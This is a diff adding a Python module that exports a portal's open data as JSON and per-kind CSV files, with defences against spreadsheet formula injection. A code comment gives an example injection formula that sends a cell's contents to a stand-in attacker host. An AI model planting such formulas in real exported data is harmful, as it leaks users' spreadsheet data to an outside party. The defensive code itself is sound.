@@ -1,0 +1,121 @@
+"""Open data: the whole data set as JSON, one CSV per record kind, one JSON file per record.
+
+Columns are derived from the model: nested records become dotted columns
+(partner.as_written), lists are joined with " | ", citations as "source:table".
+"""
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import json
+import typing
+
+from ..data import model
+from ..data.index import PortalIndex
+
+LIST_SEPARATOR = " | "
+# A spreadsheet runs a cell starting with one of these as a formula (=HYPERLINK("https://evil.example/?"&A1)).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# Excel opens a CSV without a byte order mark in the locale's code page: "Bağcılar" came out garbled.
+BOM = "\ufeff"
+RECORD_TYPES = {"agreements": "agreement", "memberships": "membership", "projects": "project",
+                "activities": "activity"}
+
+
+def _plain(value):
+    """Dataclasses -> dicts without empty values, tuples -> lists (stable key order: model order)."""
+    if dataclasses.is_dataclass(value):
+        out = {}
+        for f in dataclasses.fields(value):
+            if not f.init:
+                continue
+            item = _plain(getattr(value, f.name))
+            if item not in (None, [], {}):
+                out[f.name] = item
+        return out
+    if isinstance(value, (list, tuple)):
+        return [_plain(v) for v in value]
+    return value
+
+
+def record_json(index: PortalIndex, kind: str, record) -> dict:
+    district = index.district_of[record.id]
+    return {"record_type": RECORD_TYPES[kind], "district": district.slug,
+            "district_name": district.name, **_plain(record)}
+
+
+def dataset(index: PortalIndex) -> dict:
+    portal = index.portal
+    return {
+        "districts": [{"slug": d.slug, "name": d.name,
+                       **{kind: [_plain(r) for r in getattr(d, kind)] for kind in model.RECORD_KINDS}}
+                      for d in portal.districts],
+        "sources": [_plain(s) for s in portal.sources],
+        "networks": [_plain(n) for n in portal.networks],
+        "programmes": [_plain(p) for p in portal.programmes],
+        "countries": [_plain(c) for c in portal.countries],
+    }
+
+
+def _columns(cls, prefix: str = "") -> list[tuple[str, tuple[str, ...]]]:
+    hints = typing.get_type_hints(cls, include_extras=True)
+    cols = []
+    for f in dataclasses.fields(cls):
+        tp = hints[f.name]
+        if typing.get_origin(tp) is typing.Union:
+            tp = next(a for a in typing.get_args(tp) if a is not type(None))
+        if dataclasses.is_dataclass(tp):
+            cols += [(f"{prefix}{f.name}.{name}", (f.name, *path)) for name, path in _columns(tp)]
+        else:
+            cols.append((f"{prefix}{f.name}", (f.name,)))
+    return cols
+
+
+def _cell(value) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, (list, tuple)):
+        return LIST_SEPARATOR.join(_cell(v) for v in value)
+    if isinstance(value, model.Citation):
+        return f"{value.source}:{value.table}" if value.table else value.source
+    if dataclasses.is_dataclass(value):
+        return " ".join(_cell(getattr(value, f.name)) for f in dataclasses.fields(value) if getattr(value, f.name))
+    return str(value)
+
+
+def _inert(cell: str) -> str:
+    """OWASP's rule against CSV injection: a cell that would start a formula gets a leading apostrophe,
+    which spreadsheets show as text. Only the CSV files: the JSON keeps the data as written."""
+    return "'" + cell if cell.startswith(FORMULA_START) else cell
+
+
+def csv_text(index: PortalIndex, kind: str) -> str:
+    cls = model.RECORD_KINDS[kind]
+    columns = _columns(cls)
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(["district", *[name for name, _ in columns]])
+    for district in index.portal.districts:
+        for record in getattr(district, kind):
+            row = [district.slug]
+            for _, path in columns:
+                value = record
+                for part in path:
+                    value = getattr(value, part) if value is not None else None
+                row.append(_inert(_cell(value)))
+            writer.writerow(row)
+    return out.getvalue()
+
+
+def export_files(index: PortalIndex) -> dict[str, str]:
+    """Relative path -> text, for everything published under data/ in the site."""
+    dump = lambda obj: json.dumps(obj, ensure_ascii=False, indent=2) + "\n"
+    files = {"portal.json": dump(dataset(index))}
+    for district in dataset(index)["districts"]:
+        files[f"municipalities/{district['slug']}.json"] = dump(district)
+    for kind in model.RECORD_KINDS:
+        files[f"{kind}.csv"] = BOM + csv_text(index, kind)
+        for record_id, record in index.records[kind].items():
+            files[f"{kind}/{record_id}.json"] = dump(record_json(index, kind, record))
+    return files
